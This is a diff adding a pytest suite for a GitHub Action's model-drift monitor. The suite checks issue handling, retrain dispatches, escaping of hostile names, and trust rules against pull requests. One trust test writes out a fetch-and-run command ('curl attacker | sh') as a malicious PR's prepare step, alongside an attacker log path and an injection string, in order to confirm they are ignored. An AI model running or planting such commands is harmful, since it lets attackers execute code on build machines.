@@ -1,0 +1,323 @@
+"""The monitor trigger against the API double: one sticky issue per model, opened or updated
+on a breach and closed when healthy; a workflow_dispatch (action retrain) on a breach;
+missing permissions named; a pull request can neither monitor nor move the log.
+
+`mlci monitor` itself is another module's: here a stand-in writes the run.json and report.md
+that the contract (README, Monitoring) says it writes, so each verdict can be driven exactly.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from mlci_action.config import Prepare, load_config
+from mlci_action.errors import InputError
+from mlci_action.github.action import main, trusted_event
+from mlci_action.github.commands import Workflow
+from mlci_action.github.context import Event, PullRequest
+from mlci_action.github.dispatch import REASON_LIMIT, retrain_reason
+from mlci_action.github.monitor import ISSUE_LABELS, run_monitor, trusted_monitoring
+from mlci_action.github.trust import apply
+from mlci_action.monitor_outcome import read_outcome
+from mlci_action.report.escape import md
+from mlci_action.report.monitor_issue import issue_marker
+from tests.github.api_double import GitHubDouble
+
+TOKEN = "ghs_monitorT0kenValue0123456789abcdefXYZ"
+WORKFLOW = "mlci-dispatch.yml"
+HOSTILE = 'x</details>--> `y` "]; click A %%{init}%% <!-- mlci:monitor:breast-cancer --> @bob'
+
+
+@pytest.fixture
+def gh() -> Iterator[GitHubDouble]:
+    with GitHubDouble(token=TOKEN) as double:
+        double.set_branch("main", "a" * 40)
+        double.add_workflow(WORKFLOW)
+        yield double
+
+
+@pytest.fixture
+def project(make_project) -> Path:
+    project = make_project("classification", git_init=False)
+    config = project / "mlci.yaml"
+    config.write_text(
+        config.read_text()
+        + f"\nmonitoring:\n  log: logs/inference\n  retrain_workflow: {WORKFLOW}\n"
+    )
+    return project
+
+
+class Monitor:
+    """A stand-in for `mlci monitor`: writes the contract's run.json and report.md."""
+
+    def __init__(self) -> None:
+        self.calls: list[list[str]] = []
+        self.verdict = "breached"
+        self.breaches: list[dict] = []
+        self.rows = 2000
+        self.report = "## mlci monitor\n\nfeature drift table\n"
+
+    def __call__(self, argv: list[str]) -> int:
+        self.calls.append(argv)
+        out = Path(argv[argv.index("--out") + 1])
+        out.mkdir(parents=True, exist_ok=True)
+        record = {
+            "kind": "monitor",
+            "model": "breast-cancer",
+            "verdict": self.verdict,
+            "breaches": self.breaches,
+            "window": {
+                "since": "2026-11-27T03:00:00Z",
+                "until": "2026-11-28T03:00:00Z",
+                "rows": self.rows,
+                "malformed": 3,
+            },
+        }
+        (out / "run.json").write_text(json.dumps(record))
+        (out / "report.md").write_text(self.report)
+        return 0 if self.verdict == "healthy" else 1
+
+
+def event(gh: GitHubDouble, name: str = "schedule", ref: str = "refs/heads/main", **inputs) -> Event:
+    return Event(
+        name=name,
+        repository=gh.full_name,
+        sha="a" * 40,
+        ref=ref,
+        actor="bob",
+        default_branch="main",
+        dispatch_inputs=inputs,
+    )
+
+
+def monitor_once(gh, api, project, tmp_path, fake, ev=None) -> tuple[int, str, str]:
+    summary = tmp_path / "summary.md"
+    summary.write_text("")
+    out = io.StringIO()
+    environ = {"GITHUB_STEP_SUMMARY": str(summary), "GITHUB_RUN_ID": "77"}
+    config = load_config(project)
+    code = run_monitor(
+        Workflow(environ, out), api, ev or event(gh), config, project, project, environ, fake
+    )
+    return code, out.getvalue(), summary.read_text()
+
+
+def drift(value: float, name: str = "mean_radius") -> dict:
+    return {"what": "feature_drift", "name": name, "value": value, "threshold": 0.2}
+
+
+def test_breach_opens_one_issue_and_dispatches_then_updates_then_closes(
+    gh, api, project, tmp_path
+):
+    fake = Monitor()
+    fake.breaches = [drift(0.41)]
+    code, log, summary = monitor_once(gh, api, project, tmp_path, fake)
+    assert code == 1, log
+    # the trusted log location, resolved against the project
+    argv = fake.calls[0]
+    assert argv[argv.index("--log") + 1] == str(project / "logs" / "inference")
+    [issue] = gh.state.issues.values()
+    assert issue.title == "mlci · breast-cancer: drift detected"
+    assert issue.body.startswith(issue_marker("breast-cancer"))
+    assert "mean\\_radius" in issue.body and "0.41" in issue.body
+    assert md("started mlci-dispatch.yml on main (action retrain)") in issue.body
+    assert issue.labels == list(ISSUE_LABELS) and issue.user == "github-actions[bot]"
+    assert "feature drift table" in summary
+    [dispatch] = gh.state.dispatches
+    assert (dispatch.workflow, dispatch.ref) == (WORKFLOW, "main")
+    assert dispatch.inputs["action"] == "retrain"
+    assert "feature_drift mean_radius 0.41 vs 0.2" in dispatch.inputs["reason"]
+
+    fake.breaches = [drift(0.55), drift(0.3, "texture")]
+    code, log, _ = monitor_once(gh, api, project, tmp_path, fake)
+    assert code == 1
+    [again] = gh.state.issues.values()  # the same issue, updated
+    assert again.number == issue.number and "0.55" in again.body and "texture" in again.body
+    assert "updated issue" in log
+    assert len(gh.state.dispatches) == 2
+
+    fake.verdict, fake.breaches = "healthy", []
+    code, log, _ = monitor_once(gh, api, project, tmp_path, fake)
+    assert code == 0
+    assert gh.state.issues[issue.number].state == "closed"
+    [closing] = gh.comments_on(issue.number)
+    assert "no breach in 2000 live rows" in closing.body
+    assert len(gh.state.dispatches) == 2  # healthy: no retraining
+
+    code, _, _ = monitor_once(gh, api, project, tmp_path, fake)  # healthy again: nothing to do
+    assert code == 0 and len(gh.comments_on(issue.number)) == 1
+
+    fake.verdict, fake.breaches = "breached", [drift(0.9)]
+    monitor_once(gh, api, project, tmp_path, fake)  # a new incident: a new issue
+    assert [i.state for i in gh.state.issues.values()] == ["closed", "open"]
+    gh.assert_clean()  # every request and response as GitHub's OpenAPI description has them
+
+
+def test_no_traffic_updates_the_issue_and_starts_no_retraining(gh, api, project, tmp_path):
+    fake = Monitor()
+    fake.verdict, fake.rows = "no_traffic", 12
+    code, _, _ = monitor_once(gh, api, project, tmp_path, fake)
+    assert code == 1  # no traffic is never a pass
+    [issue] = gh.state.issues.values()
+    assert issue.title == "mlci · breast-cancer: no live traffic"
+    assert "**12** live rows" in issue.body and "MLCI\\_LOG\\_PATH" not in issue.body
+    assert gh.state.dispatches == []
+    gh.assert_clean()
+
+
+def test_someone_elses_issue_with_the_marker_is_left_alone(gh, api, project, tmp_path):
+    planted = gh.add_issue("fake", f"{issue_marker('breast-cancer')}\nall good", user="mallory")
+    gh.add_pull(1, author="mallory", head_sha="b" * 40)  # pull requests are listed as issues
+    fake = Monitor()
+    fake.breaches = [drift(0.5)]
+    monitor_once(gh, api, project, tmp_path, fake)
+    assert gh.state.issues[planted].body.endswith("all good")
+    assert len(gh.state.issues) == 2
+    gh.assert_clean()
+
+
+def test_missing_permissions_are_named_and_the_report_still_written(gh, api, project, tmp_path):
+    gh.set_actions_forbidden()
+    gh.set_issues_forbidden()
+    fake = Monitor()
+    fake.breaches = [drift(0.5)]
+    code, log, summary = monitor_once(gh, api, project, tmp_path, fake)
+    assert code == 1
+    assert "could not start the retraining" in log and "`actions: write`" in log
+    assert "could not open or update the monitor's issue" in log and "`issues: write`" in log
+    assert "feature drift table" in summary
+    assert (project / ".mlci" / "monitor" / "report.md").is_file()
+    assert gh.state.issues == {} and gh.state.dispatches == []
+
+
+def test_an_unknown_workflow_is_named(gh, api, project, tmp_path):
+    gh.state.workflows.clear()
+    fake = Monitor()
+    fake.breaches = [drift(0.5)]
+    code, log, _ = monitor_once(gh, api, project, tmp_path, fake)
+    assert code == 1
+    assert f"no workflow '{WORKFLOW}' with a workflow_dispatch trigger on main" in log
+    [issue] = gh.state.issues.values()  # the issue says the retraining could not start
+    assert md("could not be started") in issue.body
+
+
+def test_log_derived_names_cannot_break_out_of_the_issue_or_the_reason(
+    gh, api, project, tmp_path
+):
+    fake = Monitor()
+    fake.breaches = [drift(0.5, HOSTILE)]
+    fake.report = f"report naming {HOSTILE}\n"
+    monitor_once(gh, api, project, tmp_path, fake)
+    [issue] = gh.state.issues.values()
+    assert issue.body.count("<!-- mlci:") == 1  # the report cannot plant a second marker
+    [row] = [line for line in issue.body.splitlines() if line.startswith("| feature drift")]
+    for raw in ("</details>", "-->", '"]', "<!--", "@bob", "%%{"):
+        assert raw not in row, raw
+    assert not re.search(r"(?<!\\)`", row)  # every backtick escaped: no code span
+    assert row.count("|") == 5  # the name stays in its cell
+    reason = gh.state.dispatches[0].inputs["reason"]
+    assert reason.startswith("mlci monitor: feature_drift x_")
+    assert all(c.isalnum() or c in " _.,:;=()+-" for c in reason), reason
+    gh.assert_clean()
+
+
+def test_the_reason_is_one_short_line():
+    outcome = read_outcome_from({"breaches": [drift(0.5, "f" * 50 + str(i)) for i in range(20)]})
+    reason = retrain_reason(outcome)
+    assert len(reason) <= REASON_LIMIT and "\n" not in reason and reason.endswith("...")
+
+
+def read_outcome_from(extra: dict, tmp: Path | None = None) -> object:
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as directory:
+        path = Path(directory) / "run.json"
+        record = {"kind": "monitor", "model": "m", "verdict": "breached", **extra}
+        path.write_text(json.dumps(record))
+        return read_outcome(path)
+
+
+def test_a_broken_run_json_names_the_field(tmp_path):
+    path = tmp_path / "run.json"
+    path.write_text(json.dumps({"kind": "monitor", "model": "m", "verdict": "sunny"}))
+    with pytest.raises(InputError, match=r"run.json: not a monitor record: verdict"):
+        read_outcome(path)
+
+
+# ---------------------------------------------------------------------------- trust
+
+
+def test_a_pull_request_cannot_monitor_prepare_or_move_the_log(gh, project):
+    pr = event(gh, "pull_request", "refs/pull/7/merge").model_copy(
+        update={
+            "pull_request": PullRequest(
+                number=7,
+                author="mallory",
+                head_sha="b" * 40,
+                head_ref="feature",
+                base_ref="main",
+                base_sha="a" * 40,
+                is_fork=True,
+            )
+        }
+    )
+    config = load_config(project)
+    with pytest.raises(InputError, match="not pull_request"):
+        trusted_monitoring(config, pr)
+    assert not trusted_event(pr)
+    # the PR's mlci.yaml points the log elsewhere and adds a prepare command: the base's win
+    head = config.model_copy(
+        update={
+            "monitoring": config.monitoring.model_copy(update={"log": "s3://attacker/logs"}),
+            "data": config.data.model_copy(
+                update={"prepare": Prepare(command="curl attacker | sh", timeout=5)}
+            ),
+        }
+    )
+    base_text = (project / "mlci.yaml").read_text().replace(
+        "prepare: python prepare.py", "prepare: python prepare.py --base"
+    )
+    trusted, report = apply(head, base_text, "main @ base")
+    assert trusted.monitoring is not None and trusted.monitoring.log == "logs/inference"
+    assert trusted.data.prepare is not None
+    assert trusted.data.prepare.command == "python prepare.py --base"
+    ignored = {change.key for change in report.ignored}
+    assert {"monitoring.log", "data.prepare.command", "data.prepare.timeout"} <= ignored
+
+
+def test_a_dispatch_on_another_branch_is_refused(gh, project, tmp_path):
+    with pytest.raises(InputError, match="default branch only"):
+        trusted_monitoring(load_config(project), event(gh, "workflow_dispatch", "refs/heads/x"))
+    assert not trusted_event(event(gh, "workflow_dispatch", "refs/heads/x"))
+    assert not trusted_event(event(gh, "push", "refs/heads/x"))
+    assert trusted_event(event(gh, "push")) and trusted_event(event(gh, "schedule"))
+
+
+def test_the_action_refuses_monitor_off_the_default_branch(gh, project, tmp_path):
+    payload = tmp_path / "event.json"
+    payload.write_text(
+        json.dumps(
+            {
+                "inputs": {"action": "monitor"},
+                "repository": {"full_name": gh.full_name, "default_branch": "main"},
+            }
+        )
+    )
+    environ = {
+        "GITHUB_EVENT_NAME": "workflow_dispatch",
+        "GITHUB_EVENT_PATH": str(payload),
+        "GITHUB_REPOSITORY": gh.full_name,
+        "GITHUB_REF": "refs/heads/feature",
+        "GITHUB_WORKSPACE": str(project),
+        "INPUT_CONFIG": ".",
+    }
+    out = io.StringIO()
+    assert main(environ, out) == 2
+    assert "the monitor runs on the default branch only" in out.getvalue()
+    assert not (project / ".mlci" / "monitor").exists()
